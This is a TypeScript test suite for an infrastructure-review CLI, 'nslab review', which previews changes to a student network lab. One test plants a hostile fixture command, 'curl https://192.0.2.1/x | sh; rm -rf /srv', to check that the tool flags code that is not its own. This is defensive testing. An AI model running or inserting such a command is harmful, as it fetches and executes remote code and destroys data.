import assert from "node:assert/strict";
import { readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Review } from "../../review/model.ts";
import { Lab } from "../support/lab.ts";
import { freshSlot } from "../support/machine.ts";
import { assertSnapshot } from "../support/snapshot.ts";

const slot = freshSlot();
const student = "vera";
const config = { student, slot, experiments: [1, 2] };

describe("nslab review", () => {
    let lab: Lab;

    before(async () => {
        lab = await Lab.create(config);
    });
    after(() => lab.close());

    const review = (...options: string[]) => lab.run(["node", "cli/main.ts", "review", ...options]);

    /** The text of a review, for its exit code and as it was seen before. */
    async function shown(t: Mocha.Context, exitCode: number): Promise<string> {
        const { code, stdout, output } = await review();
        assert.equal(code, exitCode, output);
        const [visible = "", commands = ""] = stdout.split("<details>");
        await assertSnapshot(t, comparable(visible, lab.folder));
        return commands;
    }

    it("shows a new lab", async function () {
        const commands = await shown(this, 2);
        const whole = ["memoryCgroup", "vethPair", "rootFs", "captureJob", "pidNamespace"].filter((script) =>
            commands.includes(readFileSync(join(lab.folder, "components", script, "create.sh"), "utf8")),
        );
        // A comment has no room for all of them, and says so.
        const [, left = "0"] = /^(\d+) more scripts have no room here/m.exec(commands) ?? [];
        assert.equal(whole.length + Number(left), 5, commands);
        assert.ok(whole.length >= 3);
        assert.match(commands, /^limitBytes=100000000$/m);
    });

    it("shows that nothing changes", async function () {
        await lab.up();
        assert.equal(await shown(this, 0), "");
    });

    it("shows a changed limit", async function () {
        await lab.configure({ ...config, memoryLimitBytes: 200000000 });
        assert.match(await shown(this, 2), /^limitBytes=200000000$/m);
    });

    it("shows a changed address", async function () {
        await lab.configure({ ...config, insideAddress: "10.99.7.5/24", outsideAddress: "10.99.7.6/24" });
        await shown(this, 2);
    });

    it("shows a renamed namespace, and what it takes down", async function () {
        await lab.configure({ ...config, networkNamespace: `s${slot}-new`, captureFilter: "icmp" });
        await shown(this, 3);
    });

    it("shows another capture filter", async function () {
        await lab.configure({ ...config, captureFilter: "icmp or port 80" });
        await shown(this, 3);
    });

    it("shows an experiment that goes", async function () {
        await lab.configure({ ...config, experiments: [2] });
        await shown(this, 3);
    });

    it("shows why a wrong argument is refused", async function () {
        await lab.configure({ ...config, memoryLimitBytes: 5, insideAddress: "nonsense" });
        await shown(this, 4);
        const file = join(lab.folder, "stacks", "Pulumi.dev.yaml");
        writeFileSync(file, "config:\n  nslab:memoryLimitBytes: much\n");
        const { code, stdout } = await review();
        assert.equal(code, 4);
        assert.match(stdout, /nslab:memoryLimitBytes: "much"; allowed: a whole number/);
    });

    it("forbids what a policy forbids, and shows it all the same", async () => {
        await lab.configure({ ...config, memoryLimitBytes: 500000000 });
        const { code, stdout, output } = await review("--", "--policy-pack", "policy");
        assert.equal(code, 4, output);
        assert.match(stdout, /cgroup-limit, go-demo-group: /);
        assert.match(stdout, /^\| MemoryCgroup `go-demo` \| \*\*changed in place\*\* \|/m);
    });

    it("shows what is not nslab's own", async function () {
        const file = join(lab.folder, "index.ts");
        const program = readFileSync(file, "utf8");
        await lab.configure(config);
        const own = 'new local.Command("cleanup", { create: "curl https://192.0.2.1/x | sh; rm -rf /srv" });';
        writeFileSync(file, `import { local } from "@pulumi/command";\n${program}\n${own}\n`);
        await shown(this, 3);
        writeFileSync(file, program);
    });

    it("shows drift", async function () {
        await lab.configure(config);
        const { experiment1 } = await lab.outputs();
        process.kill(experiment1.container.pid, "SIGKILL");
        rmSync(`${experiment1.rootFs}/bin/go-demo`);
        await shown(this, 2);
        await lab.up();
    });

    it("says what it is made of in JSON, and reads a preview that was made before", async () => {
        await lab.configure({ ...config, memoryLimitBytes: 200000000 });
        const made = await lab.run(["pulumi", "preview", "--json", "--stack", "dev"]);
        writeFileSync(join(lab.folder, "preview.json"), made.stdout);
        const { code, stdout } = await review("--json", "--preview", "preview.json");
        assert.equal(code, 2);
        const { verdict, exitCode, changes } = JSON.parse(stdout) as Review;
        assert.deepEqual([verdict, exitCode], ["safe", 2]);
        assert.deepEqual(
            changes.map(({ object, operation }) => [object, operation]),
            [[{ kind: "MemoryCgroup", name: "go-demo" }, "update"]],
        );
        assert.equal(changes[0]?.after["limitBytes"], "200000000");
    });
});

/** A text without what differs from run to run: ids, PIDs, digests, folders, and the names and networks of the slot. */
function comparable(text: string, folder: string): string {
    return text
        .replaceAll(folder, "FOLDER")
        .replaceAll(`s${slot}-`, "s7-")
        .replaceAll(`10.${1 + (slot >> 8)}.${slot & 255}.`, "10.1.7.")
        .replaceAll(/\b[0-9a-f]{12}\b/g, "0123456789ab")
        .replaceAll(/(process(?: is)? `?)\d+/g, "$11234");
}
